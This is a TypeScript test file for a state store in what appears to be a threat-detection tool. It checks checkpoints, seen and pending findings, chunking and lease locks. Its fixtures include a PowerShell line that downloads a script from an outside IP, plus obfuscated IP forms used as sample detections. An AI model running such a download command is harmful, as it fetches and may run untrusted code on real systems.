import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAzurite, type AzuriteServices } from '../../local/azurite/startAzurite.js';
import { RunInProgressError } from '../../src/errors.js';
import { displayEntities, entitiesFromText } from '../../src/entities/entityLists.js';
import type { Finding } from '../../src/findings/finding.js';
import { createStateTableClient } from '../../src/state/createStateTableClient.js';
import { TableStateStore } from '../../src/state/TableStateStore.js';

let azurite: AzuriteServices;
let table = 0;

function store(): TableStateStore {
  table += 1;
  return new TableStateStore(createStateTableClient({ connectionString: azurite.connectionString, tableName: `state${table}` }));
}

const finding: Finding = {
  ip: '45.9.148.3',
  version: 4,
  entities: entitiesFromText({ hosts: ['ws1.contoso.com'], accounts: ['CONTOSO\\alice'] }),
  processes: ['powershell.exe'],
  commandLines: ['powershell iwr http://45.9.148.3/a.ps1'],
  commandLinesOmitted: 0,
  encodings: ['dotted'],
  firstSeen: new Date('2026-11-01T10:00:00Z'),
  lastSeen: new Date('2026-11-01T11:00:00Z'),
  eventCount: 3,
};

beforeAll(async () => {
  azurite = await startAzurite();
});
afterAll(async () => {
  await azurite?.close();
});

describe('TableStateStore', () => {
  it('has no checkpoint before the first run and keeps the one it is given', async () => {
    const s = store();
    expect(await s.getCheckpoint()).toBeUndefined();
    await s.setCheckpoint(new Date('2026-11-27T10:00:00Z'));
    expect((await s.getCheckpoint())?.toISOString()).toBe('2026-11-27T10:00:00.000Z');
  });

  it('round-trips seen records, IPv6 keys included, and returns only the IPs asked for that exist', async () => {
    const s = store();
    const base = {
      incidentId: 'a3c1e1d0-0000-5000-8000-000000000001',
      generation: 0,
      entities: entitiesFromText({ hosts: ['h1'], accounts: ['a1'] }),
      commandLines: ['x'],
      firstReported: new Date('2026-11-01T00:00:00Z'),
      lastReported: new Date('2026-11-01T00:00:00Z'),
      lastSeen: new Date('2026-11-01T00:00:00Z'),
    };
    await s.putSeen([{ ...base, ip: '45.9.148.3' }, { ...base, ip: '2a00:1450:4001:82a::200e', generation: 2 }]);
    const seen = await s.getSeen(['45.9.148.3', '2a00:1450:4001:82a::200e', '8.8.8.8']);
    expect([...seen.keys()].sort()).toEqual(['2a00:1450:4001:82a::200e', '45.9.148.3']);
    expect(seen.get('2a00:1450:4001:82a::200e')?.generation).toBe(2);
    expect(seen.get('45.9.148.3')?.entities).toEqual(entitiesFromText({ hosts: ['h1'], accounts: ['a1'] }));
    expect(seen.get('45.9.148.3')?.lastSeen.toISOString()).toBe('2026-11-01T00:00:00.000Z');
  });

  it('keeps that an incident lacks its evidence, and forgets it once a record without it is written', async () => {
    const s = store();
    const record = {
      ip: '45.9.148.3',
      incidentId: 'a3c1e1d0-0000-5000-8000-000000000001',
      generation: 1,
      entities: entitiesFromText({ hosts: ['h1'] }),
      commandLines: ['x'],
      firstReported: new Date('2026-11-01T00:00:00Z'),
      lastReported: new Date('2026-11-01T00:00:00Z'),
      lastSeen: new Date('2026-11-01T00:00:00Z'),
    };
    await s.putSeen([{ ...record, evidenceMissing: { since: new Date('2026-11-01T00:00:00Z'), attempts: 2 } }]);
    expect((await s.getSeen([record.ip])).get(record.ip)?.evidenceMissing).toEqual({ since: new Date('2026-11-01T00:00:00Z'), attempts: 2 });
    await s.putSeen([record]);
    expect((await s.getSeen([record.ip])).get(record.ip)).not.toHaveProperty('evidenceMissing');
  });

  it('stores seen and pending entities as the display texts earlier versions wrote, and reads records they wrote', async () => {
    const client = createStateTableClient({ connectionString: azurite.connectionString, tableName: 'stateShape' });
    const s = new TableStateStore(client);
    const times = { firstReported: new Date('2026-11-01T00:00:00Z'), lastReported: new Date('2026-11-01T00:00:00Z'), lastSeen: new Date('2026-11-01T00:00:00Z') };
    await s.putSeen([{ ip: '45.9.148.3', incidentId: 'i1', generation: 1, entities: finding.entities, commandLines: ['x'], ...times }]);
    await s.putPending([finding]);
    const seenEntity = await client.getEntity<Record<string, unknown>>('seen', '45.9.148.3');
    expect(JSON.parse(String(seenEntity['data0']))).toEqual({ hosts: ['ws1.contoso.com'], accounts: ['CONTOSO\\alice'], commandLines: ['x'] });
    const pendingEntity = await client.getEntity<Record<string, unknown>>('pending', '45.9.148.3');
    expect(JSON.parse(String(pendingEntity['data0']))).toEqual({
      ip: '45.9.148.3',
      version: 4,
      hosts: ['ws1.contoso.com'],
      accounts: ['CONTOSO\\alice'],
      processes: ['powershell.exe'],
      commandLines: ['powershell iwr http://45.9.148.3/a.ps1'],
      commandLinesOmitted: 0,
      encodings: ['dotted'],
      firstSeen: '2026-11-01T10:00:00.000Z',
      lastSeen: '2026-11-01T11:00:00.000Z',
      eventCount: 3,
    });

    // Written by an earlier version: lists of names.
    const older = JSON.stringify({ hosts: ['PC1', 'web02.contoso.com'], accounts: ['bob@contoso.com'], commandLines: ['y'] });
    await client.upsertEntity({ partitionKey: 'seen', rowKey: '8.8.8.8', incidentId: 'i2', generation: 1, ...times, chunks: 1, data0: older }, 'Replace');
    const seen = await s.getSeen(['8.8.8.8']);
    expect(seen.get('8.8.8.8')).toMatchObject({
      entities: entitiesFromText({ hosts: ['PC1', 'web02.contoso.com'], accounts: ['bob@contoso.com'] }),
      commandLines: ['y'],
    });
    expect(await s.getPending()).toEqual([finding]);
  });

  it('keeps the raw forms and sample events of a pending finding, times restored', async () => {
    const s = store();
    const withTriage: Finding = {
      ...finding,
      ip: '45.9.148.4',
      rawForms: [{ text: '0x2d.9.0224.4', encoded: false }, { text: 'NAA1AC4AOQAuADEA', encoded: true }],
      rawFormsOmitted: 2,
      samples: [{ time: new Date('2026-11-01T10:00:00.1234Z'), entities: { hosts: 'ws1.contoso.com' }, process: 'cmd.exe', source: 'sysmon', commandLine: 'ping 0x2d.9.0224.4' }],
    };
    await s.putPending([withTriage]);
    expect((await s.getPending()).find((f) => f.ip === '45.9.148.4')).toEqual(withTriage);
  });

  it('splits command lines longer than one table property across chunks', async () => {
    const s = store();
    const long = 'powershell -enc ' + 'A'.repeat(70_000);
    await s.putPending([{ ...finding, commandLines: [long, 'second'] }]);
    const [back] = await s.getPending();
    expect(back?.commandLines[0]).toBe(long);
    expect(back?.firstSeen).toBeInstanceOf(Date);
  });

  it('stores a pending finding for one IP on 40,000 hosts by keeping 500 of each kind and counting the rest', async () => {
    const s = store();
    const hosts = Array.from({ length: 40_000 }, (_, i) => `ws${String(i).padStart(5, '0')}.contoso.com`);
    await s.putPending([{ ...finding, entities: entitiesFromText({ hosts, accounts: ['CONTOSO\\alice'] }) }]);
    const [back] = await s.getPending();
    expect(displayEntities(back!.entities).hosts).toEqual(hosts.slice(0, 500));
    expect(displayEntities(back!.entities).accounts).toEqual(['CONTOSO\\alice']);
    const client = createStateTableClient({ connectionString: azurite.connectionString, tableName: `state${table}` });
    const stored = await client.getEntity<Record<string, unknown>>('pending', finding.ip);
    expect(JSON.parse(String(stored['data0']) + String(stored['data1'] ?? '') + String(stored['data2'] ?? ''))).toMatchObject({ entitiesOmitted: { hosts: 39_500 } });
  });

  it('remembers the last part merged into a pending finding', async () => {
    const s = store();
    const lastMerge = { start: new Date('2026-11-01T00:00:00Z'), eventCount: 2, commandLinesOmitted: 0 };
    await s.putPending([{ ...finding, lastMerge }, { ...finding, ip: '8.8.8.8' }]);
    const back = new Map((await s.getPending()).map((f) => [f.ip, f]));
    expect(back.get('45.9.148.3')).toEqual({ ...finding, lastMerge });
    expect(back.get('8.8.8.8')).toEqual({ ...finding, ip: '8.8.8.8' });
  });

  it('keeps pending findings until they are deleted', async () => {
    const s = store();
    await s.putPending([finding, { ...finding, ip: '8.8.8.8' }]);
    expect((await s.getPending()).map((f) => f.ip).sort()).toEqual(['45.9.148.3', '8.8.8.8']);
    await s.deletePending(['8.8.8.8', '1.1.1.1']);
    expect((await s.getPending()).map((f) => f.ip)).toEqual(['45.9.148.3']);
  });

  it('gives the run lock to one holder at a time and lets an expired lease be taken over', async () => {
    const s = store();
    const now = new Date('2026-11-27T12:00:00Z');
    const lease = await s.acquireLease('timer', 60_000, now);
    await expect(s.acquireLease('http', 60_000, now)).rejects.toBeInstanceOf(RunInProgressError);
    await expect(s.acquireLease('http', 60_000, now)).rejects.toThrow(/run in progress: lock held by timer/i);
    const later = new Date(now.getTime() + 61_000);
    const takeover = await s.acquireLease('http', 60_000, later);
    // The stale holder's release must not free the new holder's lock.
    await lease.release();
    await expect(s.acquireLease('cli', 60_000, later)).rejects.toBeInstanceOf(RunInProgressError);
    await takeover.release();
    const again = await s.acquireLease('cli', 60_000, later);
    await again.release();
  });

  it('renews a held lock, and refuses to renew one that expired and was taken over', async () => {
    const s = store();
    const now = new Date('2026-11-27T12:00:00Z');
    const lease = await s.acquireLease('timer', 60_000, now);
    const renewedAt = new Date(now.getTime() + 50_000);
    await lease.renew(renewedAt);
    expect(lease.expiresAt).toEqual(new Date(renewedAt.getTime() + 60_000));
    // Without the renewal this one would have expired at +60 s.
    await expect(s.acquireLease('http', 60_000, new Date(now.getTime() + 70_000))).rejects.toBeInstanceOf(RunInProgressError);

    const takeover = await s.acquireLease('http', 60_000, new Date(now.getTime() + 200_000));
    await expect(lease.renew(new Date(now.getTime() + 200_000))).rejects.toBeInstanceOf(RunInProgressError);
    await takeover.release();
  });

  it('takes a lock released between its create (409) and its read (404) instead of failing', async () => {
    const client = createStateTableClient({ connectionString: azurite.connectionString, tableName: 'lockrace' });
    const racing = new TableStateStore(client);
    const now = new Date('2026-11-27T12:00:00Z');
    const other = await racing.acquireLease('timer', 60_000, now);
    // The other run releases its lock just after this run's create failed and before it reads the lock.
    const getEntity = client.getEntity.bind(client);
    let released = false;
    client.getEntity = (async (...args: Parameters<typeof getEntity>) => {
      if (!released) {
        released = true;
        await other.release();
      }
      return getEntity(...args);
    }) as typeof client.getEntity;
    const lease = await racing.acquireLease('http', 60_000, now);
    expect(released).toBe(true);
    expect(lease.holder).toBe('http');
    await lease.release();
  });

  it('stores the last summary', async () => {
    const s = store();
    expect(await s.getLastSummary()).toBeUndefined();
    await s.putLastSummary({ newIps: ['45.9.148.3'] });
    expect(await s.getLastSummary()).toEqual({ newIps: ['45.9.148.3'] });
  });
});

describe('TableStateStore in-flight marks', () => {
  it('remembers the IPs a run is publishing until they are recorded', async () => {
    const s = store();
    expect(await s.getInFlight()).toEqual(new Set());
    await s.putInFlight(['45.9.148.3', '2a05:d014:1c06:5f00::1', '45.9.148.3']);
    expect(await s.getInFlight()).toEqual(new Set(['45.9.148.3', '2a05:d014:1c06:5f00::1']));
    await s.deleteInFlight(['45.9.148.3', '8.8.8.8']);
    expect(await s.getInFlight()).toEqual(new Set(['2a05:d014:1c06:5f00::1']));
  });
});
